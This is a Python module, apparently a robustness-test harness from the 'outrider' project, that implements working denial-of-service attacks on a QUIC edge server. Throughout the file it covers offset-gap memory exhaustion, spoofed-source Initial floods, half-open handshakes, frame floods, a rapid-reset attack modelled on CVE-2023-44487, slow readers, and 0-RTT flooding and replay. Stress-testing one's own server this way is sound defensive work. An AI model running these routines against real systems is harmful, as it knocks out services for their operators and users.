"""Attacks on an edge's QUIC port, each a coroutine against `(host, port)`.

They speak QUIC through aioquic's client, but send frames of their own, in packets that no
congestion control holds back and nobody sends again. `certificate` is the PEM file of the edge's
certificate; None: trust whoever answers. Each returns an `Outcome`; what the attack did to the edge
is for the caller to see there. All of them let other tasks run between datagrams.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
import ssl
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterable, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from contextvars import ContextVar
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

from aioquic import tls
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import NetworkAddress, QuicConnection, QuicConnectionError
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted, QuicEvent
from aioquic.quic.packet import QuicPacketType, QuicProtocolVersion
from aioquic.quic.packet_builder import QuicPacketBuilder
from aioquic.quic.stream import QuicStream

from outrider.client.protocol import ALPN
from outrider.codec.frames import encode_frame
from outrider.v1 import edge_pb2

Address = tuple[str, int]
DATAGRAM_BYTES: Final = 1200
_PAYLOAD_BYTES: Final = 1150
"""Of the frames of one packet."""
_TIMEOUT_S: Final = 10.0
SOURCE: ContextVar[str | None] = ContextVar("SOURCE", default=None)
"""The attacker's own address, where an attack names none."""
_BURST: Final = 16
"""Datagrams between two turns of the loop."""


@dataclass
class Outcome:
    """What the attacker saw."""

    num_sent: int = 0
    """Of what the attack counts: frames, connections, streams, datagrams."""
    num_connected: int = 0
    """Handshakes completed."""
    closed: Counter[str] = field(default_factory=Counter)
    """Connections that the edge ended, by its reason phrase or error code."""


def varint(value: int) -> bytes:
    """RFC 9000, section 16."""
    return encode_uint_var(value)


def stream_frame(stream_id: int, offset: int, data: bytes, *, fin: bool = False) -> bytes:
    """A STREAM frame with offset and length (RFC 9000, section 19.8)."""
    kind = bytes([0x0E | fin])
    return kind + varint(stream_id) + varint(offset) + varint(len(data)) + data


def crypto_frame(offset: int, data: bytes) -> bytes:
    """A CRYPTO frame (section 19.6)."""
    return b"\x06" + varint(offset) + varint(len(data)) + data


def reset_frame(stream_id: int, final_size: int) -> bytes:
    """A RESET_STREAM frame (section 19.4)."""
    return b"\x04" + varint(stream_id) + varint(0) + varint(final_size)


def stop_frame(stream_id: int) -> bytes:
    """A STOP_SENDING frame (section 19.5)."""
    return b"\x05" + varint(stream_id) + varint(0)


def new_connection_id_frame(number: int, retire_prior_to: int) -> bytes:
    """A NEW_CONNECTION_ID frame (section 19.15)."""
    return (
        b"\x18"
        + (varint(number) + varint(retire_prior_to))
        + (b"\x08" + os.urandom(8) + os.urandom(16))
    )


def ack_frame(largest: int, num_ranges: int) -> bytes:
    """An ACK frame of ranges of one packet each (section 19.3)."""
    return (
        b"\x02" + varint(largest) + varint(0) + varint(num_ranges - 1) + bytes(2 * num_ranges - 1)
    )


def chat_frame(text: str, max_tokens: int = 16) -> bytes:
    """A chat, as its client sends it on a stream."""
    chat = edge_pb2.ChatRequest()
    chat.messages.add(role="user", content=text)
    chat.sampling.max_tokens = max_tokens
    return encode_frame(edge_pb2.ClientFrame(chat=chat).SerializeToString())


def typed_frame(text: str) -> bytes:
    """Text that is being typed, as its client sends it on a stream."""
    frame = edge_pb2.ClientFrame()
    frame.typed.text = text
    return encode_frame(frame.SerializeToString())


class HostileQuic(QuicConnection):
    """A client that sends what it is told to, and may keep its acknowledgements to itself."""

    acknowledges = True
    finishes = True
    """Whether the handshake is completed."""

    def packets(self, frames: Iterable[bytes], *, early: bool = False) -> list[bytes]:
        """Datagrams with these frames, as many as fit in each, in 1-RTT or 0-RTT packets."""
        kind = QuicPacketType.ZERO_RTT if early else QuicPacketType.ONE_RTT
        epoch = tls.Epoch.ZERO_RTT if early else tls.Epoch.ONE_RTT
        return [self._packet(payload, kind, epoch) for payload in _filled(frames)]

    def skip_packet_numbers(self, count: int) -> None:
        """As if so many packets had been lost."""
        self._packet_number += count

    def _packet(self, payload: bytes, kind: QuicPacketType, epoch: tls.Epoch) -> bytes:
        builder = QuicPacketBuilder(
            host_cid=self.host_cid,
            is_client=True,
            max_datagram_size=DATAGRAM_BYTES + 100,
            packet_number=self._packet_number,
            peer_cid=self._peer_cid.cid,
            version=self._version or QuicProtocolVersion.VERSION_1,
        )
        builder.start_packet(kind, self._cryptos[epoch])
        builder.start_frame(payload[0], capacity=len(payload)).push_bytes(payload[1:])
        (datagram,), _ = builder.flush()
        self._packet_number = builder.packet_number
        return datagram

    def _payload_received(self, *args: Any, **named: Any) -> tuple[bool, bool]:
        # It does not know of what was sent past it, and finds fault with the answers.
        with contextlib.suppress(QuicConnectionError):
            return super()._payload_received(*args, **named)
        return True, False

    def _handle_stop_sending_frame(self, context: Any, frame_type: int, buf: Any) -> None:
        # It would reset the stream at the size that it knows of.
        buf.pull_uint_var()
        buf.pull_uint_var()

    def _get_or_create_stream(self, frame_type: int, stream_id: int) -> QuicStream:
        # aioquic does not know of streams that were opened by frames of our own.
        if stream_id not in self._streams and not self._stream_is_discarded(stream_id):
            self._get_or_create_stream_for_send(stream_id)
        return super()._get_or_create_stream(frame_type, stream_id)

    def _write_ack_frame(self, *args: Any, **named: Any) -> None:
        if self.acknowledges:
            super()._write_ack_frame(*args, **named)

    def receive_datagram(self, data: bytes, addr: NetworkAddress, now: float) -> None:
        """As QuicConnection; without `finishes`, nothing is heard."""
        if self.finishes:
            super().receive_datagram(data, addr, now)


def _filled(frames: Iterable[bytes]) -> Iterable[bytes]:
    """Frames put together to packets' payloads."""
    payload = bytearray()
    for frame in frames:
        if payload and len(payload) + len(frame) > _PAYLOAD_BYTES:
            yield bytes(payload)
            payload.clear()
        payload += frame
    if payload:
        yield bytes(payload).ljust(4, b"\0")  # PADDING: header protection samples so much


class HostileClient(QuicConnectionProtocol):
    """One connection of an attacker."""

    quic: HostileQuic

    def __init__(self, quic: HostileQuic) -> None:
        super().__init__(quic)
        self.quic = quic
        self.established = asyncio.Event()
        """The handshake is complete, or the edge has ended the connection."""
        self._heard = asyncio.Event()
        self.ended = asyncio.Event()
        self.closed: ConnectionTerminated | None = None
        self.has_ticket = asyncio.Event()
        self.tickets: list[tls.SessionTicket] = []
        self.sent: list[bytes] = []
        """Datagrams, if `records`."""
        self.records = False

    async def heard(self) -> None:
        """Return when the next datagram has come from the edge."""
        self._heard.clear()
        await self._heard.wait()

    def datagram_received(self, data: bytes | str, addr: NetworkAddress) -> None:
        """A datagram came."""
        super().datagram_received(data, addr)
        self._heard.set()

    def quic_event_received(self, event: QuicEvent) -> None:
        """Called by aioquic for each event."""
        if isinstance(event, ConnectionTerminated):
            self.closed = event
            self.ended.set()
        if isinstance(event, (ConnectionTerminated, HandshakeCompleted)):
            self.established.set()

    def keep(self, ticket: tls.SessionTicket) -> None:
        """The edge gave a ticket."""
        self.tickets.append(ticket)
        self.has_ticket.set()

    def error_received(self, exc: Exception) -> None:
        """Nobody listens there any more."""

    def put(self, datagram: bytes) -> None:
        """Send a datagram as it is."""
        assert self._transport is not None
        if not self._transport.is_closing():
            self._transport.sendto(datagram)

    async def send(self, frames: Iterable[bytes], *, early: bool = False) -> None:
        """Send frames as they are; stops when the edge has closed."""
        for number, payload in enumerate(_filled(frames)):
            if self.closed is not None:
                return
            for datagram in self.quic.packets([payload], early=early):
                self.put(datagram)
            if number % _BURST == _BURST - 1:
                await asyncio.sleep(0)

    def transmit(self) -> None:
        """As QuicConnectionProtocol, on a connected socket."""
        self._transmit_task = None
        for data, _ in self._quic.datagrams_to_send(now=self._loop.time()):
            if self.records:
                self.sent.append(data)
            self.put(data)
        at = self._quic.get_timer()
        if self._timer is not None:
            self._timer.cancel()
        self._timer = None if at is None else self._loop.call_at(at, self._handle_timer)
        self._timer_at = at

    def vanish(self) -> None:
        """Go without a word."""
        for handle in (self._timer, self._transmit_task):
            if handle is not None:
                handle.cancel()
        if self._transport is not None:
            self._transport.close()


def configuration(certificate: Path | None, host: str) -> QuicConfiguration:
    """What an attacker's client is set up with."""
    made = QuicConfiguration(is_client=True, alpn_protocols=[ALPN], server_name=host)
    if certificate is None:
        made.verify_mode = ssl.CERT_NONE
    else:
        made.load_verify_locations(cafile=str(certificate))
    return made


async def begin(
    address: Address,
    certificate: Path | None,
    *,
    source: str | None = None,
    ticket: tls.SessionTicket | None = None,
    tune: Callable[[HostileQuic], None] | None = None,
    records: bool = False,
) -> HostileClient:
    """Send a first flight from an own socket, at the address `source` if one is given."""
    settings = configuration(certificate, address[0])
    settings.session_ticket = ticket
    quic = HostileQuic(configuration=settings)
    if tune is not None:
        tune(quic)
    source = source or SOURCE.get()
    _, client = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: HostileClient(quic),
        remote_addr=address,
        local_addr=None if source is None else (source, 0),
    )
    quic._session_ticket_handler, client.records = client.keep, records
    client.connect(address)
    return client


@asynccontextmanager
async def connected(
    address: Address,
    certificate: Path | None,
    outcome: Outcome,
    **settings: Any,
) -> AsyncIterator[HostileClient]:
    """A connection, which ends without a word; how the edge ended it goes to `outcome`."""
    client = await begin(address, certificate, **settings)
    try:
        async with asyncio.timeout(_TIMEOUT_S):
            await client.established.wait()
        outcome.num_connected += client.closed is None
        yield client
    except TimeoutError:
        outcome.closed["no answer"] += 1
        raise
    finally:
        _note(client, outcome)
        client.vanish()


def _note(client: HostileClient, outcome: Outcome) -> None:
    event = client.closed or client.quic._close_event
    if event is not None:
        reason = event.reason_phrase or f"{event.error_code:#x}"
        outcome.closed[reason] += 1


async def _linger(client: HostileClient, hold_s: float) -> None:
    """Stay for so long, or until the edge closes."""
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(client.ended.wait(), hold_s)


async def _frames(
    address: Address,
    certificate: Path | None,
    frames: Callable[[HostileClient], Iterable[bytes]],
    hold_s: float,
    **settings: Any,
) -> Outcome:
    """Connect, send all the frames, stay a little."""
    outcome = Outcome()
    async with connected(address, certificate, outcome, **settings) as client:

        def counted() -> Iterable[bytes]:
            for frame in frames(client):
                outcome.num_sent += 1
                yield frame

        await client.send(counted())
        await _linger(client, hold_s)
    return outcome


# What makes an edge allocate.


async def doubling_offsets(
    address: Address, certificate: Path | None, *, num_frames: int = 14, hold_s: float = 0.2
) -> Outcome:
    """One byte each at the highest offset that the edge allows, which a receiver that doubles its
    window and allocates every gap pays for with gigabytes."""
    outcome = Outcome()
    async with connected(address, certificate, outcome) as client:
        stream = client.quic._get_or_create_stream_for_send(0)
        for _ in range(num_frames):
            highest = min(stream.max_stream_data_remote, client.quic._remote_max_data)
            await client.send([stream_frame(0, highest - 1, b"x")])
            outcome.num_sent += 1
            await _linger(client, hold_s / num_frames)
    return outcome


async def one_byte_fragments(
    address: Address,
    certificate: Path | None,
    *,
    num_fragments: int = 20_000,
    step: int = 2,
    hold_s: float = 0.2,
) -> Outcome:
    """One byte in every `step` of a stream, never the first one: as many gaps as bytes."""
    return await _frames(
        address,
        certificate,
        lambda _: (stream_frame(0, 1 + step * at, b"x") for at in range(num_fragments)),
        hold_s,
    )


async def one_byte_frames(
    address: Address, certificate: Path | None, *, num_frames: int = 64_000, hold_s: float = 0.2
) -> Outcome:
    """A frame of the largest size that comes byte by byte, in order, on one stream."""
    head = b"\x80\x80\x20"  # a length of 512 KiB

    def frames(_: HostileClient) -> Iterable[bytes]:
        yield stream_frame(0, 0, head)
        for at in range(num_frames):
            yield stream_frame(0, len(head) + at, b"x")

    return await _frames(address, certificate, frames, hold_s)


async def partial_frames(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 8,
    num_streams: int = 64,
    bytes_each: int = 200_000,
    hold_s: float = 1.0,
) -> Outcome:
    """Requests on many streams that begin, and never end."""
    outcome = Outcome()
    begun = b"\xff\xff\x3f" + bytes(bytes_each)  # a length of 1 MiB less one

    async def one() -> None:
        async with connected(address, certificate, outcome) as client:
            for number in range(num_streams):
                client.quic.send_stream_data(4 * number, begun)
                outcome.num_sent += 1
            client.transmit()
            await _linger(client, hold_s)

    await asyncio.gather(*(one() for _ in range(num_connections)))
    return outcome


async def spoofed_initials(
    address: Address,
    certificate: Path | None = None,
    *,
    num_initials: int = 2000,
    offset: int = 500_000,
    sources: Sequence[str] = ("127.0.0.1",),
    hold_s: float = 0.2,
) -> Outcome:
    """First packets of as many connections, each with one byte of CRYPTO far ahead; from sockets
    at `sources`, which need not be the sender's own."""
    outcome = Outcome()
    loop = asyncio.get_running_loop()
    sockets = [
        (
            await loop.create_datagram_endpoint(
                asyncio.DatagramProtocol, remote_addr=address, local_addr=(source, 0)
            )
        )[0]
        for source in sources
    ]
    for number in range(num_initials):
        sockets[number % len(sockets)].sendto(initial([crypto_frame(offset, b"x")]))
        outcome.num_sent += 1
        if number % _BURST == 0:
            await asyncio.sleep(0)
    await asyncio.sleep(hold_s)
    for transport in sockets:
        transport.close()
    return outcome


def initial(frames: Iterable[bytes], token: bytes = b"") -> bytes:
    """A datagram with the first packet of a new connection, and these frames in it."""
    peer_cid, version = os.urandom(8), QuicProtocolVersion.VERSION_1
    crypto = CryptoPair()
    crypto.setup_initial(cid=peer_cid, is_client=True, version=version)
    builder = QuicPacketBuilder(
        host_cid=os.urandom(8),
        is_client=True,
        max_datagram_size=DATAGRAM_BYTES,
        peer_cid=peer_cid,
        peer_token=token,
        version=version,
    )
    builder.start_packet(QuicPacketType.INITIAL, crypto)
    payload = b"".join(frames)
    builder.start_frame(payload[0], capacity=len(payload)).push_bytes(payload[1:])
    (datagram,), _ = builder.flush()
    return datagram


async def half_open_handshakes(
    address: Address,
    certificate: Path | None,
    *,
    num_handshakes: int = 1000,
    sources: Sequence[str] = ("127.0.0.1",),
    hold_s: float = 0.5,
) -> Outcome:
    """True first flights, each from a socket of its own, that never hear the answer."""

    def deaf(quic: HostileQuic) -> None:
        quic.finishes = False

    outcome, clients = Outcome(), []
    for number in range(num_handshakes):
        source = sources[number % len(sources)]
        clients.append(await begin(address, certificate, source=source, tune=deaf))
        outcome.num_sent += 1
    await asyncio.sleep(hold_s)
    for client in clients:
        client.vanish()
    return outcome


async def crypto_fragments(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> Outcome:
    """CRYPTO after the handshake: a TLS message of 16 MiB, byte by byte."""

    def frames(_: HostileClient) -> Iterable[bytes]:
        yield crypto_frame(0, b"\x04\xff\xff\xff")
        for at in range(num_frames):
            yield crypto_frame(4 + at, b"x")

    return await _frames(address, certificate, frames, hold_s)


# What is cheap to send and costs something to look at.


async def ping_flood(
    address: Address, certificate: Path | None, *, num_packets: int = 5000, hold_s: float = 0.2
) -> Outcome:
    """PINGs in packets of their own, and no acknowledgement of any answer."""
    outcome = Outcome()
    async with connected(address, certificate, outcome) as client:
        client.quic.acknowledges = False
        for number in range(num_packets):
            await client.send([b"\x01\x00\x00\x00"])
            outcome.num_sent += 1
            if number % _BURST == 0:
                await asyncio.sleep(0.001)  # an answer to each burst
        await _linger(client, hold_s)
    return outcome


async def many_pings(
    address: Address, certificate: Path | None, *, num_frames: int = 200_000, hold_s: float = 0.2
) -> Outcome:
    """PINGs, a thousand in a packet."""
    return await _frames(address, certificate, lambda _: (b"\x01",) * num_frames, hold_s)


async def path_challenges(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> Outcome:
    """PATH_CHALLENGEs, each of which asks for an answer."""
    return await _frames(
        address,
        certificate,
        lambda _: (b"\x1a" + os.urandom(8) for _ in range(num_frames)),
        hold_s,
    )


async def connection_ids(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> Outcome:
    """NEW_CONNECTION_IDs, each of which retires the one before."""
    return await _frames(
        address,
        certificate,
        lambda _: (new_connection_id_frame(8 + at, 8 + at) for at in range(num_frames)),
        hold_s,
    )


async def retired_connection_ids(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> Outcome:
    """RETIRE_CONNECTION_IDs, for each of which another one is due, whether it was given or not."""
    return await _frames(
        address,
        certificate,
        lambda _: (b"\x19" + varint(1 + at) for at in range(num_frames)),
        hold_s,
    )


async def acknowledgements(
    address: Address, certificate: Path | None, *, num_frames: int = 2000, hold_s: float = 0.2
) -> Outcome:
    """ACKs of five hundred ranges each, of packets that were never sent."""
    return await _frames(
        address,
        certificate,
        lambda _: (ack_frame(2000, 500) for _ in range(num_frames)),
        hold_s,
    )


async def packet_number_gaps(
    address: Address, certificate: Path | None, *, num_packets: int = 5000, hold_s: float = 0.2
) -> Outcome:
    """Every second packet number is left out: as many ranges to acknowledge as packets."""
    outcome = Outcome()
    async with connected(address, certificate, outcome) as client:
        client.quic.acknowledges = False
        for _ in range(num_packets):
            client.quic.skip_packet_numbers(1)
            await client.send([b"\x01\x00\x00\x00"])
            outcome.num_sent += 1
            if outcome.num_sent % _BURST == 0:
                await asyncio.sleep(0)
        await _linger(client, hold_s)
    return outcome


async def empty_stream_frames(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> Outcome:
    """STREAM frames without data, on every stream that may be opened."""
    return await _frames(
        address,
        certificate,
        lambda client: (
            stream_frame(4 * (at % client.quic._remote_max_streams_bidi), 0, b"")
            for at in range(num_frames)
        ),
        hold_s,
    )


async def rapid_resets(
    address: Address,
    certificate: Path | None,
    *,
    num_streams: int = 20_000,
    limit_s: float = 5.0,
    hold_s: float = 0.2,
) -> Outcome:
    """Streams that are opened with the beginning of a request and reset at once (as
    CVE-2023-44487), as many as the edge goes on to allow, for so long."""
    outcome = Outcome()
    async with connected(address, certificate, outcome) as client:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(limit_s):
                for number in range(num_streams):
                    while number >= client.quic._remote_max_streams_bidi:
                        await asyncio.wait_for(client.heard(), 1.0)
                    if client.ended.is_set():
                        break
                    stream_id = 4 * number
                    begun = stream_frame(stream_id, 0, b"\x20x")
                    await client.send((begun, stop_frame(stream_id), reset_frame(stream_id, 2)))
                    outcome.num_sent += 1
        await _linger(client, hold_s)
    return outcome


async def stopped_streams(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> Outcome:
    """STOP_SENDING, again and again, on the streams that may be opened."""
    return await _frames(
        address,
        certificate,
        lambda client: (
            stop_frame(4 * (at % client.quic._remote_max_streams_bidi)) for at in range(num_frames)
        ),
        hold_s,
    )


async def malformed_frames(
    address: Address, certificate: Path | None, *, num_connections: int = 50, seed: int = 1
) -> Outcome:
    """Packets that decrypt, and hold random bytes."""
    outcome, rng = Outcome(), random.Random(seed)
    for _ in range(num_connections):
        async with connected(address, certificate, outcome) as client:
            await client.send([rng.randbytes(rng.randrange(4, 1000))])
            outcome.num_sent += 1
            await _linger(client, 0.05)
    return outcome


async def mutated_packets(
    address: Address,
    certificate: Path | None,
    *,
    num_packets: int = 2000,
    seed: int = 1,
) -> Outcome:
    """Datagrams of a true connection with some of their bytes changed."""
    outcome, rng = Outcome(), random.Random(seed)
    async with connected(address, certificate, outcome, records=True) as client:
        genuine = [*client.sent, *client.quic.packets([stream_frame(0, 0, b"\x20x")])]
        for _ in range(num_packets):
            datagram = bytearray(rng.choice(genuine))
            for _ in range(rng.randrange(1, 8)):
                datagram[rng.randrange(len(datagram))] = rng.randrange(256)
            client.put(bytes(datagram[: rng.randrange(1, len(datagram) + 1)]))
            outcome.num_sent += 1
            if outcome.num_sent % _BURST == 0:
                await asyncio.sleep(0)
        await _linger(client, 0.1)
    return outcome


# What holds something that others could use.


async def idle_connections(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 1000,
    ping_interval_s: float = 1.0,
    hold_s: float = 5.0,
    source: str | None = None,
) -> Outcome:
    """Connections that only send PINGs; `num_sent` counts those tried."""
    outcome = Outcome()
    loop = asyncio.get_running_loop()
    async with AsyncExitStack() as stack:
        clients = []
        for _ in range(num_connections):
            outcome.num_sent += 1
            try:
                client = await stack.enter_async_context(
                    connected(address, certificate, outcome, source=source)
                )
            except TimeoutError:
                continue
            clients.append(client)
        until = loop.time() + hold_s
        while loop.time() < until:
            for client in clients:
                if client.closed is None:
                    await client.send([b"\x01\x00\x00\x00"])
            await asyncio.sleep(min(ping_interval_s, hold_s))
    return outcome


async def slow_readers(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 4,
    num_chats: int = 16,
    max_tokens: int = 1000,
    hold_s: float = 5.0,
) -> Outcome:
    """Chats whose replies are never acknowledged."""
    outcome = Outcome()

    async def one() -> None:
        async with connected(address, certificate, outcome) as client:
            client.quic.acknowledges = False
            for number in range(num_chats):
                data = chat_frame(f"Tell me all about the number {number}.", max_tokens)
                await client.send([stream_frame(4 * number, 0, data)])
                outcome.num_sent += 1
            await _linger(client, hold_s)

    await asyncio.gather(*(one() for _ in range(num_connections)))
    return outcome


async def vanishing_clients(
    address: Address, certificate: Path | None, *, num_clients: int = 50, max_tokens: int = 200
) -> Outcome:
    """Clients that ask, and are gone."""
    outcome = Outcome()
    for number in range(num_clients):
        async with connected(address, certificate, outcome) as client:
            data = chat_frame(f"Question number {number}, in some detail.", max_tokens)
            await client.send([stream_frame(0, 0, data)])
            outcome.num_sent += 1
    return outcome


async def many_chats(
    address: Address,
    certificate: Path | None,
    *,
    num_chats: int = 64,
    num_connections: int = 1,
    max_tokens: int = 64,
    words: int = 50,
    hold_s: float = 5.0,
) -> Outcome:
    """Chats of one client, all at once, each with a prompt of so many words of its own."""
    outcome = Outcome()

    async def one(connection: int) -> None:
        async with connected(address, certificate, outcome) as client:
            for number in range(num_chats):
                text = " ".join(f"word{connection}x{number}x{at}" for at in range(words))
                client.quic.send_stream_data(4 * number, chat_frame(text, max_tokens))
                outcome.num_sent += 1
            client.transmit()
            await _linger(client, hold_s)

    await asyncio.gather(*(one(connection) for connection in range(num_connections)))
    return outcome


async def typed_text(
    address: Address,
    certificate: Path | None,
    *,
    num_streams: int = 16,
    num_texts: int = 200,
    chars: int = 4000,
    interval_s: float = 0.05,
) -> Outcome:
    """Texts that are typed at a speed no user has, another one each time, and never sent."""
    outcome, rng = Outcome(), random.Random(1)
    async with connected(address, certificate, outcome) as client:
        for _ in range(num_texts):
            for number in range(num_streams):
                text = " ".join(f"{rng.randrange(10**6)}" for _ in range(chars // 7))
                client.quic.send_stream_data(4 * number, typed_frame(text))
                outcome.num_sent += 1
            client.transmit()
            await _linger(client, interval_s)
            if client.closed is not None:
                break
    return outcome


# 0-RTT.


async def ticket_of(address: Address, certificate: Path | None) -> tls.SessionTicket:
    """A ticket to come back with, from a connection that does nothing else."""
    async with connected(address, certificate, Outcome()) as client:
        async with asyncio.timeout(_TIMEOUT_S):
            await client.has_ticket.wait()
        client.quic.close()
        client.transmit()
        return client.tickets[-1]


async def early_data_flood(
    address: Address,
    certificate: Path | None,
    *,
    num_frames: int = 64_000,
    num_streams: int = 1,
    hold_s: float = 0.2,
) -> Outcome:
    """One-byte STREAM frames in 0-RTT, in order, of a handshake that is never completed."""
    outcome, ticket = Outcome(), await ticket_of(address, certificate)

    def deaf(quic: HostileQuic) -> None:
        quic.finishes = False

    client = await begin(address, certificate, ticket=ticket, tune=deaf)
    frames = (
        stream_frame(4 * (at % num_streams), at // num_streams, b"\x80") for at in range(num_frames)
    )
    for number, payload in enumerate(_filled(frames)):
        for datagram in client.quic.packets([payload], early=True):
            client.put(datagram)
        outcome.num_sent += 1
        if number % _BURST == 0:
            await asyncio.sleep(0)
    await asyncio.sleep(hold_s)
    client.vanish()
    return outcome


async def replayed_early_data(
    address: Address,
    certificate: Path | None,
    *,
    text: str = "hello",
    num_copies: int = 100,
    hold_s: float = 0.5,
) -> Outcome:
    """A first flight with a chat in 0-RTT, recorded and sent again from other sockets."""
    outcome, ticket = Outcome(), await ticket_of(address, certificate)
    client = await begin(address, certificate, ticket=ticket, records=True)
    flight = [
        *client.sent,
        *client.quic.packets([stream_frame(0, 0, chat_frame(text))], early=True),
    ]
    client.vanish()
    loop = asyncio.get_running_loop()
    for _ in range(num_copies):
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=address
        )
        for datagram in flight:
            transport.sendto(datagram)
        outcome.num_sent += 1
        await asyncio.sleep(0)
        transport.close()
    await asyncio.sleep(hold_s)
    return outcome
